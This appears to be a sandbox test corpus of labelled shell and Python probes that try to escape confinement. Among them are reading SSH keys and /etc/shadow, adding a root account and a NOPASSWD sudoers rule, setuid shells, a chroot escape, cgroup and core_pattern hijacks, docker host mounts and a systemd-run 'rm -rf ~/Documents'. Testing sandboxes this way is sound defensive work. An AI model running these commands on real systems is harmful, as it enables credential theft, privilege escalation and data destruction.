# The kernel, its devices and the settings of the machine. Most are for root, and none is ever run outside of
# a sandbox.

#! the program for cores
echo '|/bin/true' > /proc/sys/kernel/core_pattern

#! the program that loads modules
echo /bin/true > /proc/sys/kernel/modprobe

#! the name of the machine [hostname]
hostname hermes-corpus

#! the name of the machine in /proc
echo hermes-corpus > /proc/sys/kernel/hostname

#! the address of ports for outgoing connections
echo '40000 50000' > /proc/sys/net/ipv4/ip_local_port_range

#! the limit of open files
echo 99999999 > /proc/sys/fs/file-max

#! a new kind of programs
echo ':corpus:M::corpus::/bin/true:' > /proc/sys/fs/binfmt_misc/register

#! a request to the kernel by its key
echo h > /proc/sysrq-trigger

#! the mounts of /proc made writable [mount]
mount -o remount,rw /proc/sys; echo '|/bin/true' > /proc/sys/kernel/core_pattern

#! the root made writable [mount]
mount -o remount,rw,bind / ; echo x > "$ELSEWHERE/report.txt"

#! a second /proc [mount]
mkdir p; unshare -Urmpf sh -c 'mount -t proc proc p; echo "|/bin/true" > p/sys/kernel/core_pattern'; mount -t proc proc p && echo '|/bin/true' > p/sys/kernel/core_pattern

#! the hidden directories uncovered [umount]
umount ~/.ssh; umount -l "$GATEWAY"; cat ~/.ssh/id_ed25519 "$GATEWAY/web.key"

#! the hidden directories uncovered in a namespace of its own [unshare]
unshare -Urm sh -c 'umount ~/.ssh; umount -l "$GATEWAY"; cat ~/.ssh/id_ed25519 "$GATEWAY/web.key"'

#! the root in a namespace of its own made writable [unshare]
unshare -Urm sh -c 'mount -o remount,rw,bind / ; echo x > "$ELSEWHERE/report.txt"'

#! the root mounted elsewhere in a namespace of its own [unshare]
mkdir r; unshare -Urm sh -c 'mount --bind / r; cat r"$HOME"/.ssh/id_ed25519; echo x > r"$ELSEWHERE"/report.txt'

#! an overlay over the documents [unshare]
mkdir u w; unshare -Urm sh -c 'mount -t overlay -o lowerdir="$HOME/.ssh",upperdir=u,workdir=w overlay u && cat u/id_ed25519'

#! the namespaces of the first process [nsenter]
nsenter -t 1 -a cat ~/.ssh/id_ed25519

#! the network of another process [nsenter]
nsenter -t "$CANARY" -n bash -c "echo x > /dev/tcp/127.0.0.1/$PORT"

#! the network of another process, from a namespace of its own [unshare nsenter]
unshare -Ur nsenter -t "$CANARY" -U -n bash -c "echo x > /dev/tcp/127.0.0.1/$PORT"

#! a namespace in which the network is new [unshare]
unshare -Urn sh -c "bash -c 'echo x > /dev/tcp/127.0.0.1/$PORT'"

#! another root [chroot]
chroot "/proc/$CANARY/root" cat ~/.ssh/id_ed25519 || chroot . /bin/true

#! another root, left by an open directory
python3 - <<'PY'
import os
fd = os.open("/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
try:
    os.chroot("jail")
except OSError:
    pass
os.fchdir(fd)
for _ in range(20):
    os.chdir("..")
os.write(1, open("." + os.environ["HOME"] + "/.ssh/id_ed25519", "rb").read())
PY

#! a file by its handle
python3 - <<'PY'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
mount = os.open(".", os.O_RDONLY)
for inode in range(2, 2000):
    handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, 0), 64)
    fd = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
    if fd >= 0:
        print("corpus-handle", inode)
        open(os.environ["ELSEWHERE"] + "/report.txt", "w")
PY

#! the disk of the machine
head -c 512 /dev/vda > disk.bin || head -c 512 /dev/sda > disk.bin && [ -s disk.bin ] && echo "$DONE"

#! the disk of the machine by a device of its own [mknod]
mknod disk b 254 0; head -c 512 disk > disk.bin && [ -s disk.bin ] && echo "$DONE"

#! the memory of the machine
head -c 16 /dev/mem > m.bin; head -c 16 /dev/kmem > m.bin; head -c 4096 /proc/kcore > m.bin; [ -s m.bin ] && echo "$DONE"

#! the messages of the kernel
timeout 1 head -c 64 /dev/kmsg > k.bin; [ -s k.bin ] && echo "$DONE"

#! a message to the kernel's log
[ -c /dev/kmsg ] && echo hermes-corpus > /dev/kmsg && echo "$DONE"

#! a module of the kernel [insmod]
insmod ./x.ko; modprobe dummy && echo "$DONE"

#! the passwords of the machine
cat /etc/shadow | grep -q : && echo "$DONE"

#! the accounts of the machine
echo 'corpus::0:0::/:/bin/sh' >> /etc/passwd

#! the hosts of the machine
echo '10.0.0.1 example.invalid' >> /etc/hosts

#! the name server of the machine
echo 'nameserver 10.0.0.1' >> "$(realpath /etc/resolv.conf)"

#! the accounts of the machine by a new file
cp /etc/passwd p && echo 'corpus::0:0::/:/bin/sh' >> p && mv p /etc/passwd

#! the rights of those who may become root
mkdir -p /etc/sudoers.d && echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/hermes-corpus

#! a program with the rights of its owner
cp /bin/sh own-shell && chmod 4755 own-shell

#! a program with the rights of its owner, by Python
python3 -c "
import os, shutil
shutil.copy('/bin/sh', 'own-shell')
os.chmod('own-shell', 0o6755)"

#! a program with the rights of its owner, made by an archive
cp /bin/true s; tar cf s.tar --mode=u+s,a+rx s; rm s; tar xpf s.tar

#! a program with the rights of the machine [setcap]
cp /bin/sh own-shell && setcap cap_setuid+ep own-shell

#! another user by a program of the machine
su -c 'cat /etc/shadow' < /dev/null; sudo -n true; [ -r /etc/shadow ] && grep -q root: /etc/shadow && echo "$DONE"

#! another user by a system call
python3 -c "
import os
os.setresuid(0, 0, 0) if os.getuid() else os.setresuid(1, 1, 1)
print(os.environ['DONE'])" 2>/dev/null; true

#! the clock of the machine
date -s "@$(date +%s)" && echo "$DONE"

#! the end of the machine
python3 -c "
import ctypes, os
if ctypes.CDLL(None).reboot(0) == 0:  # only says what the three keys do
    print(os.environ['DONE'])"

#! the swap space of the machine [swapoff]
dd if=/dev/zero of=s bs=4k count=10 2>/dev/null; mkswap -q s; swapon ./s && swapoff ./s && echo "$DONE"

#! a loop device [losetup]
dd if=/dev/zero of=i bs=4k count=10 2>/dev/null; losetup -f --show i && losetup -D && echo "$DONE"

#! a service of the machine [systemctl]
timeout 2 systemctl start hermes-corpus.service 2>&1 | grep -q 'not found' && echo "$DONE"

#! a command outside of the sandbox, by the service manager [systemd-run]
timeout 2 systemd-run --wait rm -rf ~/Documents; timeout 2 systemd-run --user --wait rm -rf ~/Documents; true

#! the bus of the machine [dbus-send]
timeout 2 dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames && echo "$DONE"

#! a container that sees the machine [docker]
timeout 2 docker run --rm -v /:/host alpine cat /host/etc/shadow

#! the cgroups of the machine
mkdir /sys/fs/cgroup/hermes-corpus || mkdir /sys/fs/cgroup/unified/hermes-corpus || mkdir /sys/fs/cgroup/memory/hermes-corpus

#! an escape by the release of a cgroup [mount]
mkdir c; mount -t cgroup -o memory cgroup c && echo "$DONE"; echo /bin/true > /sys/fs/cgroup/memory/release_agent && echo "$DONE"

#! an event of a device
for f in /sys/class/mem/null/uevent /sys/class/net/lo/mtu; do cat $f > v 2>/dev/null; echo change > $f && echo "$DONE"; done

#! the helper for events of devices
echo /bin/true > /sys/kernel/uevent_helper

#! a terminal that gets typed text
python3 - <<'PY'
import fcntl, os, termios
fd = os.open("/dev/tty", os.O_RDWR)
fcntl.ioctl(fd, termios.TIOCSTI, b"x")
print(os.environ["DONE"])
PY

#! a terminal of another login
for t in /dev/pts/[0-9]* /dev/tty[0-9] /dev/console; do [ -c $t ] && (echo hermes-corpus > $t) 2>/dev/null && echo "$DONE" && break; done

#! a raw socket
python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(bytes([8, 0, 247, 255, 0, 0, 0, 0]), ('127.0.0.1', 0))
import os; print(os.environ['DONE'])"

#! a raw socket in a namespace of its own, to this machine [unshare]
unshare -Urn python3 -c "
import socket
socket.create_connection(('127.0.0.1', $PORT), 1)"

#! a socket of the packets of all interfaces
python3 -c "
import os, socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(('lo', 0)); s.send(bytes(64))
print(os.environ['DONE'])"

#! a socket that reaches the host of a virtual machine
timeout 2 python3 -c "
import os, socket
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
s.settimeout(1)
s.connect((2, 1))
print(os.environ['DONE'])"

#! a program for the kernel's events [python3]
python3 -c "
import ctypes, os
libc = ctypes.CDLL(None)
attributes = ctypes.create_string_buffer(b'\x02\0\0\0\x04\0\0\0\x08\0\0\0\x01\0\0\0', 128)
if libc.syscall(321, 0, attributes, 128) >= 0: print(os.environ['DONE'])"

#! events of the whole machine
python3 -c "
import ctypes, os, struct
attributes = ctypes.create_string_buffer(struct.pack('=IIQ', 1, 112, 0), 112)
if ctypes.CDLL(None).syscall(298, attributes, -1, 0, -1, 0) >= 0: print(os.environ['DONE'])"

#! the text on the screen of the machine
head -c 16 /dev/vcs1 > v.bin; [ -s v.bin ] && echo "$DONE"
